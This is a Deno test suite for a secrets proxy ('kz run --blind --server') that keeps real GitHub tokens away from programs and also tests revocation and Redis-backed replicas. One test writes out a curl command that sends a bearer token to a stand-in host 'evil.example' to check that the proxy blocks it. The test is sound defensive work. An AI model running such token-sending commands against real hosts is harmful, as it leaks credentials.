/** `kz run --blind --server` against `kz server start --proxy`: the whole way, and what ends it. */
import assert from "node:assert/strict";
import { HAS_REDIS, RedisServer } from "../cli/server/state/testing/redis_server.ts";
import { findForm } from "./support/forms.ts";
import { githubBundle, githubFiles } from "./support/github_bundle.ts";
import { hasProgram } from "./support/programs.ts";
import { makeCanary, makeProject, type Project } from "./support/project.ts";
import { startTeamServer, type TeamServer } from "./support/team_server.ts";
import { TestIssuer } from "./support/test_issuer.ts";
import { startTlsUpstream, type TlsUpstream } from "./support/tls_upstream.ts";

const NEEDS_CURL = { ignore: !hasProgram("curl") };
const PROXY = ["--listen", "127.0.0.1:0", "--proxy", "127.0.0.1:0"];
/** The same for all replicas. */
const KEY = "7".repeat(64);
const CALL = 'curl -s -w "\\n%{http_code}\\n" -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/repos';

interface Team extends AsyncDisposable {
  readonly value: string;
  readonly issuer: TestIssuer;
  readonly upstream: TlsUpstream;
  readonly servers: readonly TeamServer[];
  /** Where the agent runs. */
  readonly project: Project;
  readonly jwt: string;
  /** `kz run --blind --server … -- sh -c script` */
  blind(script: string): ReturnType<Project["kz"]>;
  /** `kz server revoke …` */
  revoke(...target: string[]): ReturnType<Project["kz"]>;
}

async function openTeam(options: { more?: string; replicas?: number } = {}): Promise<Team> {
  const stack = new AsyncDisposableStack();
  const value = makeCanary();
  const issuer = await TestIssuer.create();
  const upstream = stack.use(await startTlsUpstream({ host: "api.github.com" }));
  const servers: TeamServer[] = [];
  for (let at = 0; at < (options.replicas ?? 1); at++) {
    servers.push(stack.use(
      await startTeamServer({
        bundle: githubBundle(issuer, upstream, `revokers: service == "security"\n${options.more ?? ""}`),
        files: githubFiles(value, upstream),
        args: PROXY,
        env: { KEYZERO_SERVER_KEY: KEY },
      }),
    ));
  }
  const jwt = await issuer.sign();
  const project = stack.use(
    await makeProject({
      toml: `[secrets]
GITHUB_TOKEN = { provider = "keyzero", ref = "github/pat", hosts = ["api.github.com"] }
[[blind.connections]]
allow = true
host = "api.github.com"
`,
      files: { jwt, "security-jwt": await issuer.sign({ sub: "security-1", service_name: "security" }) },
    }),
  );
  const url = await servers[0]!.url();
  await servers[0]!.proxyUrl();
  return {
    value,
    issuer,
    upstream,
    servers,
    project,
    jwt,
    blind: (script) => project.kz(["run", "--blind", "--server", url, "--jwt-file", "jwt", "--", "sh", "-c", script]),
    revoke: (...target) => project.kz(["server", "revoke", "--server", url, "--jwt-file", "security-jwt", ...target]),
    [Symbol.asyncDispose]: () => stack.disposeAsync(),
  };
}

/** Everything in a project that could have been written, but for the backend's own file. */
async function written({ project }: TeamServer): Promise<string> {
  return await Deno.readTextFile(`${project.dir}/audit.jsonl`);
}

Deno.test({
  name: "kz run --blind --server lets a program use what only the server holds [S-6.4] [S-6.2]",
  ...NEEDS_CURL,
  async fn() {
    await using team = await openTeam();
    const result = await team.blind(`env; ${CALL}`);
    assert.match(result.stdout, /\n200\n$/, result.stdout + result.stderr);
    assert.deepEqual(team.upstream.seen.map(({ headers }) => headers["authorization"]), [`Bearer ${team.value}`]);
    assert.match(result.stdout, /^GITHUB_TOKEN=kz_masked_[0-9a-f]{32}$/m);
    // The host echoes all it was sent; neither the value nor a token of the server comes to the program.
    const [server] = team.servers;
    for (const text of [result.stdout, result.stderr, server!.stderr, await written(server!)]) {
      for (const secret of [team.value, team.jwt]) assert.equal(findForm(text, secret), undefined);
      assert.doesNotMatch(text, /KZ_(?:TOK|PRX)_1/);
    }
    const events = (await server!.audit()).map(({ event, outcome }) => `${event} ${outcome}`);
    assert(events.includes("resolve allowed") && events.includes("swap allowed"), events.join());
  },
});

Deno.test({
  name: "kz run --blind --server carries a token that the agent got by itself, and only where it may go [S-6.4]",
  ...NEEDS_CURL,
  async fn() {
    await using team = await openTeam();
    const url = await team.servers[0]!.url();
    const answer = await fetch(`${url}/v1/resolve`, {
      method: "POST",
      headers: { "content-type": "application/json", authorization: `Bearer ${team.jwt}` },
      body: JSON.stringify({ ref: "github/pat" }),
    });
    const token = (await answer.json()).results["github/pat"].token;
    assert.match(token, /^KZ_TOK_1/);
    const call = CALL.replace("$GITHUB_TOKEN", token);
    const result = await team.blind(`${call}; ${call.replace("api.github.com", "evil.example")}`);
    assert.match(result.stdout, /\n200\n/, result.stdout + result.stderr);
    assert.equal(team.upstream.seen.length, 1);
    assert.equal(team.upstream.seen[0]?.headers["authorization"], `Bearer ${team.value}`);
    // Our own rules allow one host.
    assert.match(result.stderr, /POLICY_HOST_DENIED/);
  },
});

Deno.test({
  name: "TM-36 kz server revoke ends the tokens of a subject, and a program goes on with new ones [S-6.3] [S-6.4]",
  ...NEEDS_CURL,
  async fn() {
    await using team = await openTeam();
    const wait = "touch ready; while [ ! -e go ]; do sleep 0.05; done";
    const retry =
      `for i in 1 2 3 4 5 6 7 8; do sleep 0.5; out=$(${CALL}); case $out in *200) break;; esac; done; echo "$out"`;
    const run = team.blind(`${CALL}; ${wait}; ${CALL}; ${retry}`);
    while (!await Deno.stat(`${team.project.dir}/ready`).then(() => true, () => false)) {
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
    const revoked = await team.revoke("--issuer", "internal", "--subject", "agent-1");
    assert.equal(revoked.status, 0, revoked.stderr);
    await team.project.write("go", "");
    const result = await run;
    const statuses = result.stdout.match(/^\d{3}$/mg);
    assert.deepEqual(
      [statuses?.[0], statuses?.[1], statuses?.at(-1)],
      ["200", "403", "200"],
      result.stdout + result.stderr,
    );
    const events = await team.servers[0]!.audit();
    assert(events.some(({ event, code }) => event === "swap" && code === "PROXY_TOKEN_REVOKED"));
    assert(events.some(({ event, outcome }) => event === "revoke" && outcome === "allowed"));
  },
});

Deno.test("kz server revoke is refused to who may not revoke for others [S-6.3]", async () => {
  await using team = await openTeam();
  const url = await team.servers[0]!.url();
  const result = await team.project.kz([
    ...["server", "revoke", "--server", url, "--jwt-file", "jwt"],
    ...["--issuer", "internal", "--subject", "security-1"],
  ]);
  assert.equal(result.status, 4);
  assert.match(result.stderr, /^error\[SERVER_REFUSED\]: Cannot revoke: the server answers POLICY_DENIED: /);
});

Deno.test({
  name: "TM-36 two replicas with one key and Redis honour each other's tokens, and each other's revocations [S-6.3]",
  ignore: !HAS_REDIS || !hasProgram("curl"),
  async fn() {
    await using redis = await RedisServer.start();
    await using team = await openTeam({ replicas: 2, more: `state: redis://127.0.0.1:${redis.port}\n` });
    const [first, second] = team.servers;
    const answer = await fetch(`${await first!.url()}/v1/resolve`, {
      method: "POST",
      headers: { "content-type": "application/json", authorization: `Bearer ${team.jwt}` },
      body: JSON.stringify({ ref: "github/pat" }),
    });
    const result = (await answer.json()).results["github/pat"];
    const pass = new URL(result.proxy).password;
    await team.project.write("ca.pem", await (await fetch(`${await second!.url()}/v1/ca.pem`)).text());
    const proxy = (await second!.proxyUrl()).replace("http://", `http://kz:${pass}@`);
    const call = async () => {
      const { stdout } = await new Deno.Command("curl", {
        args: [
          ...[
            "-s",
            "-o",
            "/dev/null",
            "-w",
            "%{http_code}",
            "--proxy",
            proxy,
            "--cacert",
            `${team.project.dir}/ca.pem`,
          ],
          ...["-H", `Authorization: Bearer ${result.token}`, "https://api.github.com/repos"],
        ],
      }).output();
      return new TextDecoder().decode(stdout);
    };
    assert.equal(await call(), "200");
    const revoked = await team.revoke("--id", result.token_id);
    assert.equal(revoked.status, 0, revoked.stderr);
    await new Promise((resolve) => setTimeout(resolve, 1_100));
    assert.equal(await call(), "403");
    // Doubt denies: without Redis nobody's token is taken.
    await redis.kill();
    await new Promise((resolve) => setTimeout(resolve, 1_100));
    assert.equal(await call(), "503");
  },
});
